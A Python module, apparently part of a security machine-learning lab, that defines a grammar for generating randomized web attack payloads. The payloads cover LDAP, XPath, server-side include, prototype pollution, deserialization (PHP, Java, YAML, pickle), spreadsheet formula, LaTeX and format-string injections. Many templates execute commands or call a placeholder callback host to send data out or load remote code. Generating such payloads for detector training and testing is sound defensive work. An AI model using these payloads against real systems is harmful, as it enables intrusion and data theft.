"""Rarer injections: LDAP (CWE-90), XPath (CWE-643), server-side includes (CWE-97), prototypes, object streams."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «ldap»
    «ldap»
    «xpath»
    «xpath»
    «include»
    «include»
    «prototype»
    «php_object»
    «php_object»
    «java_object»
    «edge»
ldap
    *)(«attribute»=*
    *)(«attribute»=*))(|(«attribute»=*
    «word»)(&)
    «word»)(|(«attribute»=*
    «word»)(«attribute»=«lower:1»*
    *)(|(«attribute»=«word»*))
    *()|&'
    admin)(!(&(1=0
    *))%00
    (|(«attribute»=*)(«attribute»=«lower:2»*))
    *)(objectClass=«label»
    «word»*)(|(objectclass=*)
    (&(«attribute»=«lower:1»*)(«attribute»=*))
    *)(uid=*))(|(uid=«word»
attribute:
    uid cn mail objectClass userPassword sn memberOf sAMAccountName «label»
xpath
    ' or '«lower:1»'='«lower:1»
    '] | //«label»[«int:1-9»] | //«label»['
    ' or count(//«label»)>«int:0-9» or '«lower:1»'='«lower:2»
    ' or string-length(name(/*[1]))=«int:1-20» or '«lower:1»'='
    ' or substring(//«label»[«int:1-9»]/«ident»,«int:1-9»,1)='«lower:1»
    «word»' and starts-with(//«ident»,'«lower:1»') and '1'='1
    ' or contains(«ident»,'«lower:2»') or '
    1 or true() or //«label»
    '] | //password | a['
    «n» and count(/«label»/child::node())=«int:1-9»
    ' or doc('http://«callback»/«label»') or '
    x' or name()='«label»' or 'x'='y
    //user[name/text()='«word»' or «int:1-9»=«int:1-9»]
include
    <!--#exec cmd="«unix_command»" -->
    <!--#include virtual="«unix_file»" -->
    <!--#include file="../../«label».txt"-->
    <!--#echo var="«upper:6»" -->
    <!--#printenv -->
    <!--#config errmsg="«alnum:6»"-->
    <!--#fsize file="«unix_file»"-->
    <esi:include src="http://«callback»/«label»"/>
    <esi:include src="http://«callback»/«lower:3».xsl" stylesheet="«lower:3»"/>
    <esi:debug/><esi:vars>$(HTTP_COOKIE{«label»})</esi:vars>
prototype
    {"__proto__":{"«ident»":«value»}}
    {"constructor":{"prototype":{"«ident»":«value»}}}
    {"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=«callback_host»"}}
    __proto__[«ident»]=«word»
    constructor.prototype.«ident»=«n»
    {"__proto__.«ident»":«value»}
    {"__proto__":{"status":«int:400-599»}}
    {"__proto__":{"outputFunctionName":"x;«plain_command»;//"}}
value:
    true "«word»" «n» {"«lower:3»":«int:0-9»} null
php_object
    O:«int:1-20»:"«Class»":«int:1-3»:{s:«int:1-9»:"«ident»";s:«int:1-20»:"«unix_file»";}
    O:«int:1-20»:"«Class»":1:{s:«int:1-9»:"«ident»";O:«int:3-20»:"«Class»":1:{s:4:"data";s:2:"«plain_command»";}}
    a:«int:1-3»:{i:0;O:«int:4-20»:"«Class»":0:{}}
    O:+«int:4-20»:"«Class»":1:{s:4:"file";s:11:"«unix_file»";}
    C:«int:4-20»:"«Class»":«int:4-90»:{x:i:0;O:8:"stdClass":0:{};m:a:0:{}}
    a:2:{i:7;O:«int:3-20»:"«Class»":1:{s:«int:1-9»:"«ident»";b:1;}i:7;i:7;}
Class:
    «label» «label»Handler GuzzleCookieJar FileLogger SplObjectStorage Monolog\Handler\«label» User Logger
    «label»_«label»
java_object:
    rO0ABXNyAB«alnum:24» rO0ABXQA«alnum:30» rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7«alnum:18» aced0005737200«hex:30»
    AAEAAAD/////AQAAAAAAAAAMAgAAA«alnum:24»
    !!javax.script.ScriptEngineManager[!!java.net.URLClassLoader[[!!java.net.URL["http://«callback»/"]]]]
    !!python/object/apply:os.system["«plain_command»"] c__builtin__%0aeval%0a(S'«plain_command»'%0atR.
    {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://«callback»/«label»","autoCommit":true}
    {"@class":"org.«label».«label»","«ident»":"rmi://«callback»/«label»"}
    {"$type":"System.Windows.Data.ObjectDataProvider,«label»"}
edge
    =cmd|'/c «windows_plain»'!A«int:0-9»
    =HYPERLINK("http://«callback»?d="&A«int:1-99»,"«word»")
    @SUM(1+«int:1-9»)*cmd|'/c «windows_plain»'!A0
    +WEBSERVICE("http://«callback»/"&A«int:1-9»)
    =IMPORTXML("http://«callback»/«label»","//«lower:1»")
    \\«callback_host»\«label»
    \documentclass{article}\input{«unix_file»}
    \immediate\write18{«plain_command»}
    /«label»%s%s%s%n%x%x
    %n%n%n%n%«int:1-99»$s
    «label»%0d%0a%0d%0aGET%20/«label»%20HTTP/1.1
    (?:(?:(?:«lower:1»+)+)+)+$
    {"query":"{__schema{queryType{name}types{name fields{name}}}}"}
    query{user(id:«int:1-9»){password,«ident»}}#
    [{"query":"mutation{login(user:\"«word»\",pass:\"«digits:4»\"){token}}"}]
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})


def payload(rng: Random) -> str:
    """One payload of a rarer kind."""
    return _GRAMMAR.generate(rng)
